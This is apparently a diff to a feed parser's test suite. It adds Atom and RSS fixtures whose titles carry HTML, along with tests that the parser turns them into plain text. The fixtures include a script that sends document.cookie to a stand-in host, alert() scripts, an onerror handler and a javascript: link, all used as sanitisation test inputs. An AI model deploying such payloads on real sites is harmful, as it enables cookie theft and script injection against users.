@@ -92,7 +92,8 @@ def test_zero_item_feed_is_recorded_as_empty():
     "body, headers, error",
     [
         (
-            b"<!DOCTYPE html><html><head><title>Just a moment...</title></head><body>Checking your browser</body></html>",
+            b"<!DOCTYPE html><html><head><title>Just a moment...</title></head>"
+            b"<body>Checking your browser</body></html>",
             {"Content-Type": "text/html"},
             "bot challenge page",
         ),
@@ -163,3 +164,54 @@ def test_feedparser_never_opens_a_path_or_url_given_as_bytes(tmp_path):
     secret.write_text(rss2([item(1)]))
     assert parse_feed(str(secret).encode(), {}).status == "invalid"
     assert parse_feed(b"http://127.0.0.1:9/feed.xml", {}).status == "invalid"
+
+
+ATOM_XHTML_TITLE = """<?xml version="1.0" encoding="utf-8"?>
+<feed xmlns="http://www.w3.org/2005/Atom">
+  <title type="html">&lt;b&gt;Báo&lt;/b&gt; Thử nghiệm</title>
+  <entry>
+    <title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">safe<script>location.href='https://x.example/?c='+document.cookie</script>
+ description</div></title>
+    <id>urn:1</id><link href="https://bao.vn/1"/><updated>2021-04-05T08:30:00+07:00</updated>
+    <author><name>&lt;i&gt;Phóng viên&lt;/i&gt; &amp;amp; cộng sự</name></author>
+  </entry>
+  <entry>
+    <title type="html">&lt;p&gt;Cải cách&lt;/p&gt;&lt;p&gt;hành chính&lt;style&gt;p{color:red}&lt;/style&gt;
+ &amp;amp;amp; số&lt;/p&gt;</title>
+    <id>urn:2</id><link href="https://bao.vn/2"/><updated>2021-04-05T08:30:00+07:00</updated>
+  </entry>
+</feed>"""
+
+RSS_ESCAPED_TITLE = """<rss version="2.0"><channel><title>Báo</title>
+<item><title>&lt;b&gt;Hà Nội&lt;/b&gt; &amp;amp; &lt;script&gt;alert(1)&lt;/script&gt;công bố
+ &lt;img src=x onerror=alert(2)&gt;SIPAS</title>
+<link>https://bao.vn/3</link><author>&lt;a href="javascript:alert(3)"&gt;Tòa soạn&lt;/a&gt;</author></item>
+<item><title>&amp;lt;script&amp;gt;alert(4)&amp;lt;/script&amp;gt;Tin hai lần thoát</title><link>https://bao.vn/4</link></item>
+<item><title>Chỉ số 1 &lt; 2 &amp;amp; A&amp;B</title><link>https://bao.vn/5</link></item>
+</channel></rss>"""
+
+
+def _no_markup(text: str) -> bool:
+    return "<" not in text.replace(" < ", "") and not any(word in text for word in ("alert", "location", "color"))
+
+
+def test_marked_up_atom_titles_become_plain_text():
+    feed = parse_feed(ATOM_XHTML_TITLE.encode("utf-8"), {}, FETCHED)
+    assert feed.status == "ok"
+    first, second = feed.entries
+    assert first["title"] == "safe description"
+    assert first["author"] == "Phóng viên & cộng sự"
+    assert second["title"] == "Cải cách hành chính &amp; số"  # one level of escaping undone, no more
+    assert feed.title == "Báo Thử nghiệm"
+    for entry in feed.entries:
+        assert _no_markup(entry["title"]) and unicodedata.is_normalized("NFC", entry["title"])
+
+
+def test_escaped_html_in_rss_titles_becomes_plain_text():
+    feed = parse_feed(RSS_ESCAPED_TITLE.encode("utf-8"), {}, FETCHED)
+    titles = [e["title"] for e in feed.entries]
+    assert titles[0] == "Hà Nội & công bố SIPAS"
+    assert feed.entries[0]["author"] == "Tòa soạn"
+    assert titles[1] == "Tin hai lần thoát"  # markup hidden behind two levels of escaping
+    assert titles[2] == "Chỉ số 1 < 2 & A&B"  # plain text keeps its characters
+    assert all(_no_markup(t) for t in titles)
